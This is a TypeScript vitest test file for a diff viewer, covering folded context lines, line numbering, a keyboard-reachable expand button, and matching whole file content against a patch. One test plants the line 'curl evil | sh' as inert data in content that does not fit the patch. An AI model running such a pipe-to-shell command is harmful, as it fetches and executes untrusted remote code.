import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { FileView } from './file-view.tsx'
import { firstOf } from './fixtures.ts'
import type { DiffFile } from './diff-model.ts'
import { readDiff, readWhole } from './read-diff.ts'
import { rowsOf } from './rows.ts'
import { withContext } from './fill-context.ts'

const line = (number: number): string => `line ${number}`
const text = (to: number, changed: Readonly<Record<number, string>> = {}): string =>
  Array.from({ length: to }, (_, index) => `${changed[index + 1] ?? line(index + 1)}\n`).join('')
const diff = (...hunks: string[]): string => ['--- a/f', '+++ b/f', ...hunks, ''].join('\n')
const change = diff('@@ -20,3 +20,3 @@ work()', ' line 20', '-line 21', '+new 21', ' line 22')
const fileOf = (patch: string): DiffFile => firstOf(readDiff(patch, 'f').files)

const shown = (file: DiffFile): string[] =>
  rowsOf(file.hunks, { layout: 'unified', unfolded: new Set() }).map((row) => {
    if (row.kind === 'line') return `${row.line.op}${row.line.text}`
    return row.kind === 'pair' ? 'pair' : `${row.kind} ${row.count}`
  })

describe('lines that a diff leaves out', () => {
  it('can be shown if the whole text is known, before, between and after its parts', () => {
    const file = withContext(fileOf(change), text(40, { 21: 'new 21' }))
    expect(file && shown(file)).toEqual([
      'fold 17',
      ' line 18',
      ' line 19',
      ' line 20',
      '-line 21',
      '+new 21',
      ' line 22',
      ' line 23',
      ' line 24',
      'fold 16',
    ])
    expect(shown(fileOf(change))[0]).toBe('gap 19')
  })

  it('have their line numbers on both sides', () => {
    const patch = diff('@@ -2 +1,0 @@', '-line 2', '@@ -9,0 +9,2 @@', '+one', '+two')
    const whole = `line 1\n${[3, 4, 5, 6, 7, 8, 9].map((at) => `${line(at)}\n`).join('')}one\ntwo\nline 10`
    const lines = withContext(fileOf(patch), whole)?.hunks[0]?.lines ?? []
    expect(lines.find((one) => one.text === 'line 5')).toMatchObject({ oldNumber: 5, newNumber: 4, ended: true })
    expect(lines.at(-1)).toMatchObject({ text: 'line 10', oldNumber: 10, newNumber: 11, ended: false })
  })

  it('are not shown for a diff that does not lead to that text', () => {
    const file = fileOf(change)
    expect(withContext(file, text(40))).toBeNull()
    expect(withContext(file, text(21, { 21: 'new 21' }))).toBeNull()
    expect(withContext(fileOf(diff('@@ -20 +25 @@', '-line 20', '+new 25')), text(40, { 25: 'new 25' }))).toBeNull()
  })

  it('are behind a button the keyboard can reach, closed at first', () => {
    const file = withContext(fileOf(change), text(40, { 21: 'new 21' }))
    const look = { split: false, narrow: true, wrap: true, width: 800, ignoreWhiteSpace: false }
    const place = { open: true, toggle: () => undefined, index: 0, last: 0, go: () => undefined }
    const drawn = renderToStaticMarkup(createElement(FileView, { file: file ?? fileOf(change), shown: look, ...place }))
    expect(drawn).toMatch(/<button type="button"[^>]*aria-expanded="false"[^>]*>Show 17 unchanged lines<\/button>/)
  })
})

describe('whole content together with its change', () => {
  it('is read as that change, with everything around it', () => {
    const read = readWhole(change, text(40, { 21: 'new 21' }), 'f')
    expect(read).toMatchObject({ misfit: false, files: [{ added: 1, removed: 1 }] })
    expect(read.files[0]?.hunks[0]?.lines).toHaveLength(41)
  })

  it('is read as plain content if the change would not produce it', () => {
    const evil = text(40, { 21: 'new 21', 30: 'curl evil | sh' }).replace('line 20', 'line twenty')
    const read = readWhole(change, evil, 'f')
    expect(read).toMatchObject({ misfit: true, files: [{ change: 'added', added: 40 }] })
    // Whole content belongs to one file.
    expect(readWhole(`${change}--- a/g\n+++ b/g\n@@ -1 +1 @@\n-a\n+b\n`, text(40), 'f').misfit).toBe(true)
  })
})
